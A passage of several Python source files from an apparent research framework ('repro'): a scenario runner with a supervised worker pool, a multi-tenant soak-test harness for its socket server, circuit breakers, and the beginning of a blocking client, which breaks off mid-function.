            actual = observations.get(field)
            if actual is None or actual < wanted:
                violations.append(
                    "{} = {} below {}".format(field, actual, wanted)
                )
        else:
            actual = observations.get(key)
            if actual != wanted:
                violations.append(
                    "{} = {!r}, expected {!r}".format(key, actual, wanted)
                )
    return violations


def run_scenario(scenario):
    """Run one scenario (dict, JSON text, or file path)."""
    if isinstance(scenario, (str, pathlib.Path)):
        path = pathlib.Path(scenario)
        try:
            scenario = json.loads(path.read_text())
        except OSError as error:
            raise ConfigError(
                "cannot read scenario {}: {}".format(path, error)
            ) from error
        except json.JSONDecodeError as error:
            raise ConfigError(
                "scenario {} is not valid JSON: {}".format(path, error)
            ) from error
    for field in ("name", "machine", "attack"):
        if field not in scenario:
            raise ConfigError(
                "scenario is missing the {!r} field".format(field)
            )
    attack_spec = dict(scenario["attack"])
    kind = attack_spec.pop("kind", None)
    if kind not in _ATTACKS:
        raise ConfigError(
            "unknown attack kind {!r}; known: {}".format(
                kind, ", ".join(sorted(_ATTACKS))
            )
        )
    machine = _build_machine(scenario["machine"])
    observations = _ATTACKS[kind](machine, attack_spec)
    violations = _check_expectations(
        scenario.get("expect", {}), observations
    )
    return ScenarioResult(
        scenario["name"], not violations, observations, violations,
        machine_seed=machine.seed,
        chaos_digest=(machine.chaos.schedule_digest()
                      if machine.chaos is not None else None),
    )


def _run_scenario_guarded(path):
    """Pool-safe wrapper: a crashing scenario becomes a FAIL result.

    Module-level (so it pickles into worker processes) and
    exception-free (so one broken scenario file cannot take down the
    whole suite with a raw traceback from the parent).
    """
    try:
        return run_scenario(path)
    except Exception as error:
        name = pathlib.Path(path).stem
        return ScenarioResult(
            name, False, {"error": repr(error)},
            ["scenario crashed: {!r}".format(error)],
        )


def run_suite(directory, jobs=None, timeout_per_scenario=None):
    """Run every ``*.json`` scenario in a directory, sorted by name.

    ``jobs`` > 1 fans the scenarios out over the supervised pool (each
    scenario boots its own machine, so they are fully independent);
    results come back in the same sorted-by-name order as the serial
    path.  A scenario that *raises* becomes a failed ScenarioResult
    (``_run_scenario_guarded``); a worker that is hard-killed mid-
    scenario (OOM killer, operator SIGKILL) no longer aborts the suite
    with ``BrokenProcessPool`` -- the pool is respawned, the lost
    scenario is surfaced as a FAIL result, and the remaining scenarios
    keep running.  ``timeout_per_scenario`` (seconds) arms a wall-clock
    watchdog: a hung scenario is killed, reported FAIL, and never
    stalls the rest of the suite.  Workers are capped at the machine's
    core count -- oversubscribing a smaller box is pure scheduling
    overhead.
    """
    directory = pathlib.Path(directory)
    paths = sorted(directory.glob("*.json"))
    parallel = jobs is not None and jobs > 1 and len(paths) > 1
    if not parallel and timeout_per_scenario is None:
        return [_run_scenario_guarded(path) for path in paths]

    # the watchdog needs process isolation even at --jobs 1, and a
    # --jobs N request keeps isolation on a small box too: only the
    # worker count is capped at the core count, never the pool itself
    from repro.campaign.pool import OK, SupervisedPool

    workers = max(1, min(jobs or 1, len(paths), os.cpu_count() or 1))
    pool = SupervisedPool(
        jobs=workers, watchdog_s=timeout_per_scenario, max_retries=0
    )
    outcomes = pool.run(
        [(path.stem, str(path)) for path in paths], _run_scenario_guarded
    )
    results = []
    for path in paths:
        outcome = outcomes[path.stem]
        if outcome.status == OK:
            results.append(outcome.value)
        else:
            results.append(ScenarioResult(
                path.stem, False, {"error": outcome.detail},
                ["scenario runner lost: {}".format(outcome.detail)],
            ))
    return results
