"""Sustained-load soak harness for ``repro serve`` (``repro soak``).

The unit tests prove single behaviors; the serve smoke proves one
drain cycle.  The soak proves the *service* properties that only show
up under sustained multi-tenant load:

* **fairness** -- flood tenants with different configured weights
  receive executor throughput proportional to those weights, and a
  trickle tenant (low, steady demand) is never starved behind the
  floods;
* **overload discipline** -- every refusal during the soak is a typed
  ``rejected`` with a reason (and ``retry_after_s`` where promised);
  no client ever sees a timeout or a crash;
* **drain correctness** -- a SIGTERM lands mid-soak, with floods in
  full swing and a campaign plan streaming: the server must exit 0
  with zero orphan processes, and a restarted server must *resume*
  the plan to a store byte-identical (modulo wall-clock stamps) to an
  uninterrupted offline run;
* **slow-reader isolation** -- clients that submit and never read
  lose their streams, never their computations: every abandoned
  submission has a persisted result;
* **scale** -- a sharded campaign of ``campaign_units`` noop units
  (100k in the full configuration) completes through the same fabric
  at microsecond unit cost, proving the journals and the coordinator,
  not the attack math, set the ceiling.

Everything here drives real processes over real sockets: the server
runs as a ``python -m repro serve`` subprocess in its own process
group (that is what makes the zero-orphan assertion honest), clients
are plain :class:`~repro.serve.ServeClient` instances with churn
(connections are torn down and reopened throughout), and the fault
profile rides a plan submission through the public protocol.

:func:`run_soak` is the importable driver -- ``repro soak`` and
``tools/soak.py`` are thin wrappers over it -- and returns a JSON-able
report with every measurement the assertions were made from.
"""

import hashlib
import json
import os
import pathlib
import shutil
import signal
import subprocess
import sys
import threading
import time

from repro.campaign.coordinator import ShardedCampaignRunner
from repro.errors import ReproError, ServeError
from repro.serve.client import ServeClient

#: load modes a soak tenant can run
FLOOD = "flood"
TRICKLE = "trickle"
SLOW_READER = "slow-reader"

#: default tenant mix: two floods at 2:1 weights, one trickle, one
#: slow reader.  ``streams`` is concurrent connections per tenant.
DEFAULT_TENANTS = (
    {"name": "flood-a", "mode": FLOOD, "weight": 2.0, "streams": 2,
     "window": 6},
    {"name": "flood-b", "mode": FLOOD, "weight": 1.0, "streams": 2,
     "window": 6},
    {"name": "trickle", "mode": TRICKLE, "weight": 1.0, "streams": 1,
     "pause_s": 0.5},
    {"name": "sloth", "mode": SLOW_READER, "weight": 1.0, "streams": 1,
     "pause_s": 1.0},
)


class SoakError(ReproError):
    """A soak assertion failed (the report travels in ``report``)."""

    def __init__(self, message, report=None):
        super(SoakError, self).__init__(message)
        self.report = report


def noop_scenario(name, seed, spin=2000):
    """A microsecond-scale unit: the soak measures the fabric, not AVX."""
    return {
        "name": name,
        "machine": {"os": "none", "seed": seed},
        "attack": {"kind": "noop", "spin": spin},
        "expect": {"correct": True},
    }


def write_noop_plan(directory, units, seed_base=0, spin=2000):
    """Materialize ``units`` noop scenario files under ``directory``."""
    directory = pathlib.Path(directory)
    directory.mkdir(parents=True, exist_ok=True)
    width = max(5, len(str(max(1, units - 1))))
    for index in range(units):
        name = "unit-{:0{w}d}".format(index, w=width)
        (directory / (name + ".json")).write_text(
            json.dumps(noop_scenario(name, seed_base + index, spin=spin))
        )
    return directory


def store_digest(store):
    """sha256 of a campaign store, modulo the wall-clock stamps."""
    store = dict(store)
    store.pop("generated_at", None)
    store.pop("wall_elapsed_s", None)
    blob = json.dumps(store, sort_keys=True).encode("utf-8")
    return hashlib.sha256(blob).hexdigest()


class _TenantLoad(threading.Thread):
    """One stream of one tenant's load: submit, churn, record.

    Three personalities: **flood** keeps ``window`` submissions
    pipelined on one connection (without that pressure the scheduler
    queue never builds and fairness is unobservable -- a serial client
    is RTT-bound, not executor-bound), churning the connection every
    ``churn_every`` verdicts; **trickle** submits serially through
    :meth:`ServeClient.submit` (which also exercises the retry/backoff
    path on shed refusals) with a pause between units; **slow-reader**
    submits and abandons the stream without reading.
    """

    def __init__(self, soak, tenant, mode, stream, priority=1,
                 pause_s=0.0, window=6, churn_every=25):
        super(_TenantLoad, self).__init__(
            name="soak-{}-{}".format(tenant, stream), daemon=True)
        self.soak = soak
        self.tenant = tenant
        self.mode = mode
        self.stream = stream
        self.priority = priority
        self.pause_s = pause_s
        self.window = max(1, window)
        self.churn_every = max(1, churn_every)
        self.submitted = 0
        self.done = 0
        self.rejected = {}
        self.errors = []
        self._index = 0

    def _client(self):
        return ServeClient(
            self.soak.socket, timeout_s=self.soak.io_timeout_s,
            retries=2, seed=self.soak.seed,
        ).connect(self.tenant)

    def _connect_or_wait(self):
        """One connection attempt; None while nobody is listening."""
        try:
            return self._client()
        except (ServeError, OSError):
            # between drain and restart there is nobody to talk
            # to; that is the soak's design, not a bug
            self.soak.stop_load.wait(0.2)
            return None

    def _drop(self, client):
        try:
            client.sock.close()
        except (OSError, AttributeError):
            pass

    def _stream_died(self, rid):
        soak = self.soak
        if not soak.draining.is_set() and not soak.stop_load.is_set():
            self.errors.append(
                "stream died outside a drain window "
                "(around request {})".format(rid))

    def _next_rid(self):
        rid = "{}-s{}-{}".format(self.soak.phase, self.stream,
                                 self._index)
        self._index += 1
        return rid

    def _count_rejection(self, reply):
        reason = reply.get("reason") or reply.get("quota") or "unknown"
        self.rejected[reason] = self.rejected.get(reason, 0) + 1
        if reason == "unknown" and not self.soak.draining.is_set():
            self.errors.append("untyped rejection: {!r}".format(reply))
        return reason

    def run(self):
        if self.mode == FLOOD:
            self._run_flood()
        else:
            self._run_serial()

    def _run_flood(self):
        soak = self.soak
        client = None
        outstanding = set()
        since_churn = 0
        while not soak.stop_load.is_set():
            if client is None:
                outstanding.clear()
                client = self._connect_or_wait()
                continue
            try:
                # keep the pipeline full -- unless a churn is due, in
                # which case let it drain so no verdicts are abandoned
                while len(outstanding) < self.window \
                        and since_churn < self.churn_every \
                        and not soak.stop_load.is_set():
                    rid = self._next_rid()
                    client.send({
                        "type": "submit", "id": rid,
                        "scenario": noop_scenario(
                            rid, self._index, spin=soak.spin),
                        "priority": self.priority,
                    })
                    outstanding.add(rid)
                    self.submitted += 1
                if not outstanding:
                    # pipeline drained for a churn: fresh connection
                    client.close()
                    client = None
                    since_churn = 0
                    continue
                reply = client.recv()
            except (ServeError, OSError):
                self._stream_died(sorted(outstanding)[:1])
                self._drop(client)
                client = None
                continue
            kind = reply.get("type")
            rid = reply.get("id")
            if rid not in outstanding:
                continue  # draining broadcasts, stream noise
            if kind == "verdict":
                outstanding.discard(rid)
                self.done += 1
                since_churn += 1
            elif kind == "rejected":
                outstanding.discard(rid)
                reason = self._count_rejection(reply)
                if reason != "draining":
                    # a refused window must not busy-spin the server
                    soak.stop_load.wait(0.05)
        if client is not None:
            client.close()

    def _run_serial(self):
        soak = self.soak
        client = None
        while not soak.stop_load.is_set():
            if client is None:
                client = self._connect_or_wait()
                continue
            rid = self._next_rid()
            try:
                if self.mode == SLOW_READER:
                    # submit, read nothing, walk away mid-stream
                    client.send({
                        "type": "submit", "id": rid,
                        "scenario": noop_scenario(
                            rid, self._index, spin=soak.spin),
                    })
                    self.submitted += 1
                    soak.stop_load.wait(self.pause_s)
                    self._drop(client)
                    client = None
                    continue
                self.submitted += 1
                reply = client.submit(
                    rid,
                    scenario=noop_scenario(rid, self._index,
                                           spin=soak.spin),
                    priority=self.priority,
                )
                kind = reply.get("type")
                if kind == "verdict":
                    self.done += 1
                elif kind == "rejected":
                    self._count_rejection(reply)
                else:
                    self.errors.append(
                        "unexpected terminal {!r}".format(reply))
            except (ServeError, OSError):
                self._stream_died(rid)
                self._drop(client)
                client = None
                continue
            soak.stop_load.wait(self.pause_s)
        if client is not None:
            client.close()


class SoakHarness:
    """One full soak: two load phases around a SIGTERM drain.

    ``root`` is scratch space (recreated); ``duration_s`` covers the
    *load* windows (roughly half before the mid-soak SIGTERM, half
    after the restart).  ``campaign_units`` sizes the sharded-campaign
    scale smoke (0 skips it); ``fairness_ratio_max`` bounds the
    weight-normalized flood throughput spread; ``trickle_p99_ms``
    bounds the trickle tenant's scheduler wait.
    """

    def __init__(self, root, duration_s=30.0, shards=4, jobs=4, seed=9,
                 tenants=DEFAULT_TENANTS, spin=2000, plan_units=48,
                 campaign_units=2000, fault_profile="default",
                 fairness_ratio_max=3.0, trickle_p99_ms=5000.0,
                 io_timeout_s=120.0, python=None):
        self.root = pathlib.Path(root)
        self.duration_s = duration_s
        self.shards = shards
        self.jobs = jobs
        self.seed = seed
        self.tenants = [dict(t) for t in tenants]
        self.spin = spin
        self.plan_units = plan_units
        self.campaign_units = campaign_units
        self.fault_profile = fault_profile
        self.fairness_ratio_max = fairness_ratio_max
        self.trickle_p99_ms = trickle_p99_ms
        self.io_timeout_s = io_timeout_s
        self.python = python or sys.executable
        self.socket = str(self.root / "serve.sock")
        self.state = self.root / "state"
        self.stop_load = threading.Event()
        self.draining = threading.Event()
        self.phase = "a"
        self._log = []

    # -- plumbing --------------------------------------------------------------

    def log(self, message):
        self._log.append(message)
        print("soak: " + message, flush=True)

    def _tenants_json(self):
        # the plan tenant needs headroom for whole campaigns at once
        spec = {"plans": {"max_requests": 4,
                          "max_units": max(4096, 2 * self.plan_units),
                          "weight": 1.0}}
        for tenant in self.tenants:
            spec[tenant["name"]] = {
                "max_requests": 8 * int(tenant.get("streams", 1)),
                "max_units": 4096,
                "weight": tenant.get("weight", 1.0),
            }
        path = self.root / "tenants.json"
        path.write_text(json.dumps(spec, indent=2, sort_keys=True))
        return path

    def _start_server(self, ready_name):
        ready = self.root / ready_name
        src_dir = pathlib.Path(__file__).resolve().parents[2]
        env = dict(os.environ)
        env["PYTHONPATH"] = str(src_dir) + (
            os.pathsep + env["PYTHONPATH"] if env.get("PYTHONPATH") else ""
        )
        proc = subprocess.Popen(
            [self.python, "-m", "repro", "serve",
             "--socket", self.socket, "--state", str(self.state),
             "--shards", str(self.shards), "--jobs", str(self.jobs),
             "--seed", str(self.seed), "--max-queue", "1024",
             "--watchdog", "120",
             "--tenants", str(self._tenants_json()),
             "--ready-file", str(ready)],
            env=env, stdout=subprocess.PIPE, stderr=subprocess.STDOUT,
            start_new_session=True,
        )
        deadline = time.time() + 60
        while not ready.exists():
            if proc.poll() is not None:
                raise SoakError("server died on startup:\n"
                                + proc.stdout.read().decode())
            if time.time() > deadline:
                proc.kill()
                raise SoakError("server never became ready")
            time.sleep(0.05)
        return proc

    def _wait_clean_exit(self, proc, what):
        """Exit 0 + empty process group, or the soak fails."""
        try:
            code = proc.wait(timeout=180)
        except subprocess.TimeoutExpired:
            os.killpg(proc.pid, signal.SIGKILL)
            raise SoakError("{}: server never exited".format(what))
        output = proc.stdout.read().decode()
        if code != 0:
            raise SoakError("{}: server exited {} (want 0):\n{}".format(
                what, code, output))
        deadline = time.time() + 20
        while time.time() < deadline:
            try:
                os.killpg(proc.pid, 0)
            except ProcessLookupError:
                self.log("{}: clean exit 0, zero orphans".format(what))
                return
            time.sleep(0.2)
        os.killpg(proc.pid, signal.SIGKILL)
        raise SoakError(
            "{}: orphan processes survived the drain".format(what))

    def _spawn_load(self):
        threads = []
        for tenant in self.tenants:
            for stream in range(int(tenant.get("streams", 1))):
                threads.append(_TenantLoad(
                    self, tenant["name"], tenant.get("mode", FLOOD),
                    stream, priority=int(tenant.get("priority", 1)),
                    pause_s=float(tenant.get("pause_s", 0.0)),
                    window=int(tenant.get("window", 6)),
                    churn_every=int(tenant.get("churn_every", 25)),
                ))
        for thread in threads:
            thread.start()
        return threads

    def _join_load(self, threads):
        self.stop_load.set()
        for thread in threads:
            thread.join(timeout=self.io_timeout_s + 30)
        self.stop_load.clear()
        return self._fold_load(threads)

    @staticmethod
    def _fold_load(threads):
        folded = {}
        for thread in threads:
            entry = folded.setdefault(thread.tenant, {
                "mode": thread.mode, "submitted": 0, "done": 0,
                "rejected": {}, "errors": [],
            })
            entry["submitted"] += thread.submitted
            entry["done"] += thread.done
            for reason, count in thread.rejected.items():
                entry["rejected"][reason] = \
                    entry["rejected"].get(reason, 0) + count
            entry["errors"].extend(thread.errors)
        return folded

    def _status(self):
        client = ServeClient(self.socket, timeout_s=self.io_timeout_s)
        client.connect()
        try:
            return client.status()
        finally:
            client.close()

    # -- phases ----------------------------------------------------------------

    def run(self):
        if self.root.exists():
            shutil.rmtree(self.root)
        self.root.mkdir(parents=True)
        plan_dir = write_noop_plan(
            self.root / "plan", self.plan_units, seed_base=1000,
            spin=self.spin)
        fault_dir = write_noop_plan(
            self.root / "fault-plan", self.plan_units, seed_base=5000,
            spin=self.spin)
        report = {
            "config": {
                "duration_s": self.duration_s, "shards": self.shards,
                "jobs": self.jobs, "seed": self.seed,
                "plan_units": self.plan_units,
                "campaign_units": self.campaign_units,
                "fault_profile": self.fault_profile,
                "tenants": self.tenants,
            },
        }
        half = max(2.0, self.duration_s / 2.0)

        # ---- phase A: load, plan, SIGTERM mid-soak -----------------------
        self.phase = "a"
        proc = self._start_server("ready-a")
        threads = self._spawn_load()
        planner = ServeClient(self.socket,
                              timeout_s=self.io_timeout_s).connect("plans")
        reply = planner.submit(
            "det-plan",
            plan={"directory": str(plan_dir), "shards": self.shards,
                  "seed": self.seed},
            wait=False,
        )
        if reply.get("type") != "accepted":
            raise SoakError("plan not accepted: {!r}".format(reply),
                            report)
        # let the floods contend for at least half the budget, and be
        # sure the plan is journaling units before the SIGTERM lands
        time.sleep(half)
        deadline = time.time() + 120
        while True:
            journals = sorted(
                (self.state / "plans").glob("plans.det-plan*.jsonl"))
            if any(b"unit-finish" in j.read_bytes() for j in journals):
                break
            if time.time() > deadline:
                raise SoakError("plan never started finishing units",
                                report)
            time.sleep(0.05)
        status_a = self._status()
        self.draining.set()
        os.kill(proc.pid, signal.SIGTERM)
        self._wait_clean_exit(proc, "phase-a")
        report["phase_a"] = self._join_load(threads)
        report["status_a"] = {
            "scheduler": status_a.get("scheduler"),
            "overload": status_a.get("overload"),
        }
        try:
            planner.sock.close()
        except OSError:
            pass
        self.draining.clear()

        # ---- phase B: restart, resume, keep loading, drain ---------------
        self.phase = "b"
        proc = self._start_server("ready-b")
        threads = self._spawn_load()
        resumer = ServeClient(self.socket,
                              timeout_s=max(self.io_timeout_s, 300.0))
        resumer.connect("plans")
        verdict = resumer.submit(
            "det-plan",
            plan={"directory": str(plan_dir), "shards": self.shards,
                  "seed": self.seed},
        )
        if verdict.get("status") != "done" or not verdict.get("ok"):
            raise SoakError(
                "resumed plan did not finish clean: {!r}".format(verdict),
                report)
        store_path = pathlib.Path(verdict["store"])
        fault_verdict = resumer.submit(
            "fault-plan",
            plan={"directory": str(fault_dir), "shards": self.shards,
                  "seed": self.seed,
                  "fault_profile": self.fault_profile},
        )
        if fault_verdict.get("type") != "verdict":
            raise SoakError(
                "fault-profile plan had no typed verdict: {!r}"
                .format(fault_verdict), report)
        report["fault_plan"] = {
            "status": fault_verdict.get("status"),
            "ok": fault_verdict.get("ok"),
            "summary": fault_verdict.get("summary"),
        }
        resumer.close()
        time.sleep(half)
        status_b = self._status()
        report["status_b"] = {
            "scheduler": status_b.get("scheduler"),
            "overload": status_b.get("overload"),
        }
        self.draining.set()
        drainer = ServeClient(self.socket, timeout_s=self.io_timeout_s)
        drainer.connect()
        drainer.drain(wait=False)
        drainer.close()
        self._wait_clean_exit(proc, "phase-b")
        report["phase_b"] = self._join_load(threads)
        self.draining.clear()

        # ---- verification ------------------------------------------------
        self._verify_load(report)
        self._verify_fairness(report, status_b)
        self._verify_trickle(report, status_b)
        self._verify_slow_reader(report)
        self._verify_determinism(report, plan_dir, store_path)
        if self.campaign_units:
            report["campaign_smoke"] = self._campaign_smoke()
        report["log"] = list(self._log)
        report["ok"] = True
        return report

    # -- assertions ------------------------------------------------------------

    def _verify_load(self, report):
        errors = []
        for phase in ("phase_a", "phase_b"):
            for tenant, entry in sorted(report[phase].items()):
                errors.extend(
                    "{}/{}: {}".format(phase, tenant, e)
                    for e in entry["errors"])
        if errors:
            raise SoakError(
                "load errors (timeouts/crashes where typed refusals "
                "were promised): " + "; ".join(errors[:8]), report)
        total_done = sum(
            entry["done"]
            for phase in ("phase_a", "phase_b")
            for entry in report[phase].values())
        if total_done == 0:
            raise SoakError("no load completed at all", report)
        self.log("load clean: {} verdicts, no untyped failures"
                 .format(total_done))

    def _flood_weights(self):
        return {
            t["name"]: float(t.get("weight", 1.0))
            for t in self.tenants if t.get("mode", FLOOD) == FLOOD
        }

    def _verify_fairness(self, report, status):
        """Flood tenants' weight-normalized throughput must stay close."""
        weights = self._flood_weights()
        counts = {}
        for phase in ("phase_a", "phase_b"):
            for tenant, entry in report[phase].items():
                if tenant in weights:
                    counts[tenant] = counts.get(tenant, 0) + entry["done"]
        dispatched = {
            name: info.get("dispatched", 0)
            for name, info in
            (status.get("scheduler", {}).get("tenants") or {}).items()
        }
        normalized = {
            tenant: counts.get(tenant, 0) / weights[tenant]
            for tenant in weights
        }
        floor = min(normalized.values())
        if floor <= 0:
            raise SoakError(
                "a flood tenant was starved outright: {!r}"
                .format(counts), report)
        ratio = max(normalized.values()) / floor
        report["fairness"] = {
            "counts": counts,
            "weights": weights,
            "normalized": {k: round(v, 2) for k, v in normalized.items()},
            "dispatched_b": dispatched,
            "ratio": round(ratio, 3),
            "bound": self.fairness_ratio_max,
        }
        if ratio > self.fairness_ratio_max:
            raise SoakError(
                "weight-normalized flood throughput ratio {:.2f} exceeds "
                "{:.2f}: {!r}".format(
                    ratio, self.fairness_ratio_max, normalized), report)
        self.log("fairness: normalized ratio {:.2f} <= {:.2f} ({})".format(
            ratio, self.fairness_ratio_max,
            ", ".join("{}={}".format(k, v)
                      for k, v in sorted(counts.items()))))

    def _verify_trickle(self, report, status):
        tricklers = [t["name"] for t in self.tenants
                     if t.get("mode") == TRICKLE]
        if not tricklers:
            return
        sched = status.get("scheduler", {}).get("tenants") or {}
        trickle = {}
        for name in tricklers:
            done = sum(report[p].get(name, {}).get("done", 0)
                       for p in ("phase_a", "phase_b"))
            submitted = sum(report[p].get(name, {}).get("submitted", 0)
                            for p in ("phase_a", "phase_b"))
            p99 = (sched.get(name) or {}).get("p99_wait_ms", 0.0)
            trickle[name] = {"submitted": submitted, "done": done,
                             "p99_wait_ms": p99}
            if done == 0:
                raise SoakError(
                    "trickle tenant {} completed nothing".format(name),
                    report)
            if p99 > self.trickle_p99_ms:
                raise SoakError(
                    "trickle tenant {} p99 queue wait {:.0f}ms exceeds "
                    "{:.0f}ms -- starved behind the floods".format(
                        name, p99, self.trickle_p99_ms), report)
        report["trickle"] = trickle
        self.log("trickle: " + json.dumps(trickle, sort_keys=True))

    def _verify_slow_reader(self, report):
        sloths = [t["name"] for t in self.tenants
                  if t.get("mode") == SLOW_READER]
        if not sloths:
            return
        outcome = {}
        for name in sloths:
            submitted = sum(report[p].get(name, {}).get("submitted", 0)
                            for p in ("phase_a", "phase_b"))
            persisted = len(list(
                (self.state / "results").glob(name + ".*.json")))
            outcome[name] = {"submitted": submitted,
                             "persisted": persisted}
            # submissions racing the two drains may have been refused
            # before admission; everything admitted must be on disk
            if submitted and persisted == 0:
                raise SoakError(
                    "slow reader {} got nothing persisted ({} submits)"
                    .format(name, submitted), report)
        report["slow_reader"] = outcome
        self.log("slow reader: " + json.dumps(outcome, sort_keys=True))

    def _verify_determinism(self, report, plan_dir, store_path):
        offline = ShardedCampaignRunner(
            self.root / "offline.jsonl", directory=str(plan_dir),
            shards=self.shards, jobs=self.jobs, seed=self.seed,
            watchdog_s=120.0,
        ).run()
        if not offline.ok:
            raise SoakError(
                "offline reference run failed: " + offline.summary, report)
        served = json.loads(store_path.read_text())
        served_sha = store_digest(served)
        offline_sha = store_digest(offline.store)
        report["determinism"] = {
            "served_sha256": served_sha,
            "offline_sha256": offline_sha,
            "equal": served_sha == offline_sha,
        }
        if served_sha != offline_sha:
            raise SoakError(
                "served store {} != offline store {} after drain+resume"
                .format(served_sha, offline_sha), report)
        self.log("determinism: served == offline ({})".format(served_sha))

    def _campaign_smoke(self):
        """The scale leg: a sharded campaign at real unit counts."""
        directory = write_noop_plan(
            self.root / "campaign", self.campaign_units,
            seed_base=100000, spin=64)
        started = time.monotonic()
        result = ShardedCampaignRunner(
            self.root / "campaign.jsonl", directory=str(directory),
            shards=self.shards, jobs=self.jobs, seed=self.seed,
            watchdog_s=300.0,
        ).run()
        elapsed = time.monotonic() - started
        if not result.ok:
            raise SoakError(
                "campaign smoke failed: " + result.summary)
        smoke = {
            "units": self.campaign_units,
            "elapsed_s": round(elapsed, 2),
            "units_per_s": round(self.campaign_units / elapsed, 1),
            "summary": result.summary,
        }
        self.log("campaign smoke: {} units in {:.1f}s ({}/s)".format(
            self.campaign_units, elapsed, smoke["units_per_s"]))
        return smoke


def run_soak(root, **kwargs):
    """Run one soak; returns the report dict (raises SoakError on fail)."""
    return SoakHarness(root, **kwargs).run()
