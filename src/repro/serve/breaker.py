"""Circuit breakers: shed load from a sick backend instead of cascading.

The sharded fabric already contains a *single run's* shard death by
quarantine and work stealing -- but a long-running service replays
that containment for every new request, paying the doomed shard's
failure again and again while requests pile up behind it.  The breaker
is the service-level memory of those failures:

* **closed** -- healthy; requests flow;
* **open** -- ``failure_threshold`` consecutive failures tripped it;
  requests are shed with a typed :class:`~repro.errors.Overloaded`
  (``reason="circuit-open"``) until ``cooldown_s`` elapses.  Shedding
  is the point: a rejected request costs microseconds, a request that
  queues behind a dead backend costs its whole deadline;
* **half-open** -- the cooldown expired; exactly one probe request is
  admitted.  Success closes the breaker, failure re-opens it for a
  fresh cooldown.

The server keeps one global breaker (wholesale backend failures) plus
one per shard index (quarantines).  A per-shard breaker never rejects
-- the fabric's survivors still absorb that shard's units -- it marks
admissions *degraded* so clients learn their request runs on a
diminished fabric.
"""

import threading
import time

#: breaker states
CLOSED = "closed"
OPEN = "open"
HALF_OPEN = "half-open"


class CircuitBreaker:
    """One breaker: consecutive-failure trip, cooldown, half-open probe.

    ``clock`` is injectable for tests (defaults to ``time.monotonic``).
    All methods are thread-safe and non-blocking.
    """

    def __init__(self, failure_threshold=3, cooldown_s=30.0, clock=None):
        self.failure_threshold = max(1, int(failure_threshold))
        self.cooldown_s = float(cooldown_s)
        self._clock = clock or time.monotonic
        self._lock = threading.Lock()
        self._failures = 0
        self._state = CLOSED
        self._opened_at = None
        self._probing = False

    @property
    def state(self):
        with self._lock:
            return self._observe()

    def _observe(self):
        """Advance open -> half-open on cooldown expiry; return state."""
        if self._state == OPEN \
                and self._clock() - self._opened_at >= self.cooldown_s:
            self._state = HALF_OPEN
            self._probing = False
        return self._state

    def allow(self):
        """May one more request pass?  Half-open admits a single probe."""
        with self._lock:
            state = self._observe()
            if state == CLOSED:
                return True
            if state == HALF_OPEN and not self._probing:
                self._probing = True
                return True
            return False

    def record_success(self):
        with self._lock:
            self._failures = 0
            self._state = CLOSED
            self._opened_at = None
            self._probing = False

    def record_failure(self):
        with self._lock:
            self._observe()
            self._failures += 1
            if self._state == HALF_OPEN \
                    or self._failures >= self.failure_threshold:
                self._state = OPEN
                self._opened_at = self._clock()
                self._probing = False

    def retry_after_s(self):
        """Seconds until the next half-open probe (0 when not open)."""
        with self._lock:
            if self._observe() != OPEN:
                return 0.0
            return max(
                0.0, self.cooldown_s - (self._clock() - self._opened_at)
            )

    def as_dict(self):
        with self._lock:
            return {"state": self._observe(), "failures": self._failures}


class BreakerBoard:
    """The server's breaker set: one global + one per shard index."""

    def __init__(self, shards, failure_threshold=3, cooldown_s=30.0,
                 clock=None):
        self.backend = CircuitBreaker(failure_threshold, cooldown_s, clock)
        self.shards = {
            index: CircuitBreaker(failure_threshold, cooldown_s, clock)
            for index in range(max(1, shards))
        }
        #: the server attaches its OverloadGovernor here so one board
        #: document carries every shed signal the service can emit --
        #: breaker trips *and* watermark pressure
        self.overload = None

    def record_report(self, report):
        """Fold one ShardedCampaignReport into the per-shard breakers."""
        failures = getattr(report, "shard_failures", None) or {}
        states = getattr(report, "shard_states", None) or {}
        for index, breaker in self.shards.items():
            if index in failures:
                breaker.record_failure()
            elif states.get(index) == "done":
                breaker.record_success()
        if failures and len(failures) == len(states):
            # every shard died: that is a backend failure, not a degrade
            self.backend.record_failure()
        else:
            self.backend.record_success()

    def degraded_shards(self):
        """Shard indexes whose breaker is not closed (degrade signal)."""
        return sorted(
            index for index, breaker in self.shards.items()
            if breaker.state != CLOSED
        )

    def as_dict(self):
        board = {
            "backend": self.backend.as_dict(),
            "shards": {
                str(index): breaker.as_dict()
                for index, breaker in sorted(self.shards.items())
            },
        }
        if self.overload is not None:
            board["overload"] = self.overload.snapshot()
        return board
