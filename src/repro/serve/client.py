"""A blocking client for the ``repro-serve/v1`` protocol.

:class:`ServeClient` is what ``repro submit`` / ``repro drain`` and
the tests speak through: connect, ``hello``, then one call per
request.  It is deliberately synchronous -- one outstanding submit per
connection -- because the concurrency story lives server-side;
a load generator simply opens one connection per in-flight request
(the smoke test and the benchmark both do).

Unsolicited messages (``draining`` broadcasts, events for other ids)
are surfaced through the optional ``on_event`` callback and otherwise
skipped, so a drain mid-stream never desynchronizes the client.
"""

import json
import socket
import time

from repro.campaign.pool import seeded_jitter
from repro.errors import ProtocolError, ServeError
from repro.serve import protocol

#: refusal reasons worth waiting out: breaker cooldowns and overload
#: shedding are transient by design and carry a ``retry_after_s``
#: hint.  ``queue-full``, ``draining`` and quota rejections are NOT
#: here -- they reflect the caller's own standing (or the server's
#: end of life) and must surface immediately.
RETRYABLE_REASONS = ("circuit-open", "shedding", "degraded")

#: default ceiling on one backoff sleep
DEFAULT_MAX_BACKOFF_S = 30.0


class ServeClient:
    """One connection to a serve socket (Unix path or ``(host, port)``).

    ``retries`` bounds how many breaker/shed refusals one
    :meth:`submit` waits out before surfacing the rejection; each wait
    honors the server's ``retry_after_s`` hint, stretched by the
    campaign's seeded jitter (reproducible per ``(seed, request_id,
    attempt)``, so a fleet of clients retrying the same cooldown does
    not thunder back in lockstep) and capped at ``max_backoff_s``.
    ``retries=0`` restores the surface-immediately behavior.
    """

    def __init__(self, address, timeout_s=60.0, retries=3,
                 max_backoff_s=DEFAULT_MAX_BACKOFF_S, seed=0):
        self.address = address
        self.timeout_s = timeout_s
        self.retries = max(0, int(retries))
        self.max_backoff_s = max_backoff_s
        self.seed = seed
        self.sock = None
        self._buffer = b""
        self.welcome = None

    # -- session ---------------------------------------------------------------

    def connect(self, tenant=None):
        """Open the socket; with ``tenant``, complete the hello handshake."""
        if isinstance(self.address, (list, tuple)):
            sock = socket.create_connection(
                tuple(self.address), timeout=self.timeout_s
            )
        else:
            sock = socket.socket(socket.AF_UNIX)
            sock.settimeout(self.timeout_s)
            try:
